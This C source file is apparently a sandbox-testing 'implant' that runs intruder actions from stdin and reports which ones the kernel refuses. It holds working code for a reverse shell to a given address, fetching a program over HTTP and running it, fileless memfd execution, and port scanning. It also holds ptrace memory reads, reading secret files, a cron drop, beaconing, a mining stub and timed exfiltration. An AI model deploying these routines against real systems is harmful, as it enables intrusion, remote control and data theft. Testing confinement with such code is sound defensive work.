/*
 * implant: what an intruder runs inside a service, with the rights of that account.
 *
 * Takes orders from stdin, a line each, and says on stdout how each ended: "done", or "refused: WHY"
 * where the kernel did not let it.
 *
 *   shell                         a shell that looks around
 *   reverse ADDRESS PORT          a shell that takes its commands from a connection it makes
 *   beacon ADDRESS PORT           asks there for orders, without a shell
 *   fetch ADDRESS PORT FILE       downloads a program over HTTP, writes it, runs it
 *   memfd                         runs a program that is in no file
 *   scan ADDRESS FIRST LAST       tries ports
 *   mine ADDRESS PORT SECONDS     computes hashes and hands them in
 *   ptrace PID                    stops a process, reads of its memory, lets it go
 *   unshare                       a user and a mount namespace of its own, and mounts in it
 *   secrets FILE...               reads files
 *   cron FOLDER                   leaves a crontab
 *   exfiltrate ADDRESS PORT N     sends a little every half second, N times
 *   uring FILE...                 reads files through io_uring, without openat or read
 *
 * Nothing outlasts its order, and nothing of it harms: what it downloads or puts into memory and
 * runs is itself, with an argument at which it ends.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <liburing.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MOST_WORDS 8
#define SECONDS_OF_A_CHILD 10

/* All orders return 0, or -1 with errno, as system calls do. */

static int connected(char **words)
{
	struct sockaddr_in peer = { .sin_family = AF_INET, .sin_port = htons(atoi(words[2])) };
	struct timeval patience = { .tv_sec = 5 };
	int socket_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET, words[1], &peer.sin_addr);
	setsockopt(socket_, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	if (connect(socket_, (void *)&peer, sizeof(peer)) < 0) {
		close(socket_);
		return -1;
	}
	return socket_;
}

static int wait_for(pid_t child)
{
	int status;

	if (child < 0 || waitpid(child, &status, 0) < 0)
		return -1;
	errno = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
	return errno ? -1 : 0;
}

/* Forks; the child has a time limit of its own. */
static pid_t child(void)
{
	pid_t pid = fork();

	if (pid == 0)
		alarm(SECONDS_OF_A_CHILD);
	return pid;
}

static int shell(char **words)
{
	(void)words;
	pid_t pid = child();

	if (pid == 0) {
		freopen("/dev/null", "w", stdout);
		execl("/bin/sh", "sh", "-c", "id; uname -a; cat /etc/passwd; :", NULL);
		_exit(errno);
	}
	return wait_for(pid);
}

static int reverse(char **words)
{
	int peer = connected(words);

	if (peer < 0)
		return -1;
	pid_t pid = child();
	if (pid == 0) {
		for (int fd = 0; fd < 3; fd++)
			dup2(peer, fd);
		execl("/bin/sh", "sh", NULL);
		_exit(errno);
	}
	close(peer);
	return wait_for(pid);
}

static int beacon(char **words)
{
	char orders[512];
	int peer = connected(words);

	if (peer < 0)
		return -1;
	dprintf(peer, "hello from %d\n", getpid());
	ssize_t got = recv(peer, orders, sizeof(orders), 0);
	close(peer);
	return got < 0 ? -1 : 0;
}

static int run(const char *path, int descriptor)
{
	char *arguments[] = { "kworker", "be harmless", NULL };
	pid_t pid = child();

	if (pid == 0) {
		if (path)
			execv(path, arguments);
		else
			fexecve(descriptor, arguments, environ);
		_exit(errno);
	}
	return wait_for(pid);
}

static int fetch(char **words)
{
	char piece[65536];
	ssize_t got;
	int peer = connected(words);

	if (peer < 0)
		return -1;
	int file = open(words[3], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);
	if (file < 0)
		return -1;
	dprintf(peer, "GET /tool HTTP/1.0\r\n\r\n");
	char *body = NULL;
	while ((got = recv(peer, piece, sizeof(piece) - 1, 0)) > 0) {
		char *from = piece;
		if (!body) { /* the head of the answer comes whole, it is short */
			piece[got] = 0;
			body = memmem(piece, got, "\r\n\r\n", 4);
			from = body ? body + 4 : piece + got;
		}
		if (write(file, from, piece + got - from) < 0)
			return -1;
	}
	close(peer);
	close(file);
	int result = run(words[3], -1);
	unlink(words[3]);
	return result;
}

static int memfd(char **words)
{
	(void)words;
	char piece[65536];
	ssize_t got;
	int memory = memfd_create("stage", MFD_CLOEXEC);
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);

	while ((got = read(self, piece, sizeof(piece))) > 0)
		if (write(memory, piece, got) < 0)
			return -1;
	close(self);
	int result = run(NULL, memory);
	close(memory);
	return result;
}

static int scan(char **words)
{
	char port[8];
	char *target[] = { "", words[1], port };

	for (int number = atoi(words[2]); number <= atoi(words[3]); number++) {
		snprintf(port, sizeof(port), "%d", number);
		int peer = connected(target);
		if (peer >= 0)
			close(peer);
	}
	return 0;
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec + time.tv_nsec / 1e9;
}

static int mine(char **words)
{
	double end = now() + atoi(words[3]);
	unsigned long hash = 14695981039346656037UL;
	int pool = connected(words);

	if (pool < 0)
		return -1;
	dprintf(pool, "{\"id\":1,\"method\":\"login\"}\n");
	while (now() < end) {
		for (long round = 0; round < 100 * 1000 * 1000; round++)
			hash = (hash ^ (round & 255)) * 1099511628211UL;
		if (dprintf(pool, "{\"method\":\"submit\",\"nonce\":\"%lx\"}\n", hash) < 0)
			break;
	}
	close(pool);
	return 0;
}

static int trace(char **words)
{
	pid_t victim = atoi(words[1]);
	char name[64], memory[64], line[128] = "";
	int status;

	if (ptrace(PTRACE_ATTACH, victim, NULL, NULL) < 0)
		return -1;
	waitpid(victim, &status, __WALL);
	snprintf(name, sizeof(name), "/proc/%d/maps", victim);
	FILE *maps = fopen(name, "r");
	if (maps && fgets(line, sizeof(line), maps)) {
		struct iovec local = { memory, sizeof(memory) };
		struct iovec remote = { (void *)strtoul(line, NULL, 16), sizeof(memory) };
		process_vm_readv(victim, &local, 1, &remote, 1, 0);
		ptrace(PTRACE_PEEKDATA, victim, remote.iov_base, NULL);
	}
	if (maps)
		fclose(maps);
	return ptrace(PTRACE_DETACH, victim, NULL, NULL);
}

static int leave(char **words)
{
	(void)words;
	pid_t pid = child();

	if (pid == 0) {
		/* In namespaces of its own, so that no mount is seen by anybody else. */
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
			_exit(errno);
		if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0
		    || mount("none", "/tmp", "tmpfs", 0, "size=64k") < 0
		    || mount("/etc", "/mnt", NULL, MS_BIND, NULL) < 0)
			_exit(errno);
		_exit(0);
	}
	return wait_for(pid);
}

static int secrets(char **words)
{
	char piece[4096];
	int found = 0;

	for (char **path = words + 1; *path; path++) {
		int file = open(*path, O_RDONLY | O_CLOEXEC);
		if (file < 0)
			continue;
		while (read(file, piece, sizeof(piece)) > 0)
			found = 1;
		close(file);
	}
	return found ? 0 : -1;
}

static int cron(char **words)
{
	char path[512];

	mkdir(words[1], 0755);
	snprintf(path, sizeof(path), "%s/updates", words[1]);
	int file = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (file < 0)
		return -1;
	dprintf(file, "*/5 * * * * root true\n");
	fchmod(file, 0644);
	close(file);
	return unlink(path);
}

static int exfiltrate(char **words)
{
	struct timespec pause = { .tv_nsec = 500 * 1000 * 1000 };
	char piece[200] = "a little of what was found";
	int peer = connected(words);

	if (peer < 0)
		return -1;
	for (int left = atoi(words[3]); left > 0; left--) {
		if (send(peer, piece, sizeof(piece), MSG_NOSIGNAL) < 0)
			break;
		nanosleep(&pause, NULL);
	}
	close(peer);
	return 0;
}

static int complete(struct io_uring *ring)
{
	struct io_uring_cqe *cqe;

	if (io_uring_submit(ring) < 0 || io_uring_wait_cqe(ring, &cqe) < 0)
		return -1;
	int result = cqe->res;
	io_uring_cqe_seen(ring, cqe);
	errno = result < 0 ? -result : 0;
	return result < 0 ? -1 : result;
}

static int uring(char **words)
{
	struct io_uring ring;
	char piece[4096];
	int found = 0;

	errno = -io_uring_queue_init(8, &ring, 0);
	if (errno)
		return -1;
	for (char **path = words + 1; *path; path++) {
		io_uring_prep_openat(io_uring_get_sqe(&ring), AT_FDCWD, *path, O_RDONLY, 0);
		int file = complete(&ring);
		if (file < 0)
			continue;
		io_uring_prep_read(io_uring_get_sqe(&ring), file, piece, sizeof(piece), 0);
		found |= complete(&ring) > 0;
		io_uring_prep_close(io_uring_get_sqe(&ring), file);
		complete(&ring);
	}
	io_uring_queue_exit(&ring);
	return found ? 0 : -1;
}

static const struct {
	const char *word;
	int (*take)(char **words);
	int arguments;
} ORDERS[] = {
	{ "shell", shell, 0 },	 { "reverse", reverse, 2 }, { "beacon", beacon, 2 },
	{ "fetch", fetch, 3 },	 { "memfd", memfd, 0 },	    { "scan", scan, 3 },
	{ "mine", mine, 3 },	 { "ptrace", trace, 1 },    { "unshare", leave, 0 },
	{ "secrets", secrets, 1 }, { "cron", cron, 1 },	    { "exfiltrate", exfiltrate, 3 },
	{ "uring", uring, 1 },
};

static int obey(char *line)
{
	char *words[MOST_WORDS + 1] = { 0 };
	int count = 0;

	for (char *word = strtok(line, " \n"); word && count < MOST_WORDS; word = strtok(NULL, " \n"))
		words[count++] = word;
	for (size_t i = 0; count && i < sizeof(ORDERS) / sizeof(*ORDERS); i++)
		if (!strcmp(words[0], ORDERS[i].word) && count > ORDERS[i].arguments)
			return ORDERS[i].take(words);
	errno = ENOSYS;
	return -1;
}

int main(int count, char **arguments)
{
	char line[1024];

	(void)arguments;
	if (count == 2) /* downloaded, or in memory: it runs, and that is all */
		return 0;
	while (fgets(line, sizeof(line), stdin)) {
		if (obey(line) < 0)
			printf("refused: %s\n", strerror(errno));
		else
			puts("done");
		fflush(stdout);
	}
	return 0;
}
